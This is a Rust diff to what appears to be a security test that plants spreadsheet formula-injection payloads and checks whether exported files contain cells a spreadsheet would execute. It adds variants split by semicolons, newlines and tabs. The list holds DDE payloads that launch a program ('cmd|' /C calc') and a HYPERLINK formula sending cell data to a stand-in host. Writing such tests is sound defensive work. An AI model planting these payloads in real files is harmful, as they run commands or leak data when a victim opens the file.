@@ -11,13 +11,17 @@ pub(crate) const TRIES: &str =
     "An answer or an identifier is a formula that a spreadsheet executes when the researcher opens a file.";
 
 /// Cells that a spreadsheet takes for a formula.
-const FORMULAS: [&str; 6] = [
+const FORMULAS: [&str; 9] = [
     "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
+    // Where cells are separated by semicolons, or the file is split at line breaks.
+    "because;=1+1;",
+    "because\n@SUM(1+1);",
+    "because\t+1+cmd|' /C calc'!A0",
 ];
 
 pub(crate) async fn attack(world: &mut World, variant: &mut Variant) -> anyhow::Result<Observed> {
@@ -83,9 +87,12 @@ pub(crate) async fn attack(world: &mut World, variant: &mut Variant) -> anyhow::
                 .from_path(&path)?;
             for record in reader.records() {
                 let record = record?;
-                let is_live = |cell: &&str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                let is_live = |cell: &&str| cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r']);
                 let is_number = |cell: &&str| cell.parse::<f64>().is_ok();
-                let live = record.iter().find(|cell| is_live(cell) && !is_number(cell));
+                // A program may split a cell again.
+                let parts = |cell| std::iter::once(cell).chain(str::split(cell, [';', '\n', '\r', '\t']));
+                let mut cells = record.iter().flat_map(parts);
+                let live = cells.find(|cell| is_live(cell) && !is_number(cell));
                 if let Some(cell) = live {
                     let name = path.file_name().unwrap_or_default().to_string_lossy();
                     found.push(format!("{name}: {cell:?}"));
